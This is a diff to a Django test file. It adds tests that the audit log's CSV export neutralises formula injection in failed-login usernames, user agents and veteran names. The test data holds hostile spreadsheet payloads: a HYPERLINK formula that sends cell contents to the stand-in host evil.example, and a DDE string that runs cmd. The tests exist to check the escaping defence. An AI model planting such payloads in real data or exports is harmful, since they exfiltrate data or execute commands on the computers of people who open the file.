@@ -343,3 +343,41 @@ def test_purge_task_runs_on_a_real_worker(celery_worker, users):
     result = audit_purge.apply_async(queue=celery_worker["queue"]).get(timeout=30)
     assert result["access_log"] == 1
     assert set(AccessLog.objects.values_list("pk", flat=True)) == {rows[10].pk}
+
+
+# --- CSV formula injection (issue 10, finding 6) ----------------------------------------------------
+
+HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
+
+
+def _csv_rows(response) -> list[list[str]]:
+    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
+    body = b"".join(response.streaming_content).decode("utf-8")
+    return list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
+
+
+def test_failed_login_names_and_user_agents_cannot_become_formulas(client, users):
+    """Anyone, signed in or not, can put text in the failures table: it must reach the CSV as text."""
+    client.post("/account/login/", {"username": HOSTILE, "password": "Wrong#Passw0rd"}, REMOTE_ADDR="10.9.0.1",
+                HTTP_USER_AGENT="@SUM(1+9)*cmd|' /C calc'!A0")
+    client.post("/account/login/", {"username": "village_a1", "password": "Wrong#Passw0rd"}, REMOTE_ADDR="10.9.0.2",
+                HTTP_USER_AGENT="-2+3")
+    login(client, users["admin"])
+    rows = _csv_rows(client.get(reverse("core:audit"), {"tab": "failures", "format": "csv"}))
+    by_ip = {row[2]: row for row in rows[1:]}
+    assert by_ip["10.9.0.1"][1] == "'" + HOSTILE
+    assert by_ip["10.9.0.1"][3] == "'@SUM(1+9)*cmd|' /C calc'!A0"
+    assert by_ip["10.9.0.2"][1:] == ["village_a1", "10.9.0.2", "'-2+3"]
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+
+
+def test_veteran_names_in_the_access_csv_stay_text(client, users, tree):
+    from tests.registry.factories import make_veteran
+
+    veteran = make_veteran(tree["village_a1"], name="=1+2")
+    login(client, users["admin"])
+    assert client.get(reverse("registry:veteran_detail", args=[veteran.pk])).status_code == 200
+    rows = _csv_rows(client.get(reverse("core:audit"), {"tab": "access", "format": "csv"}))
+    objects = [row[3] for row in rows[1:]]
+    assert "'=1+2" in objects and "=1+2" not in objects
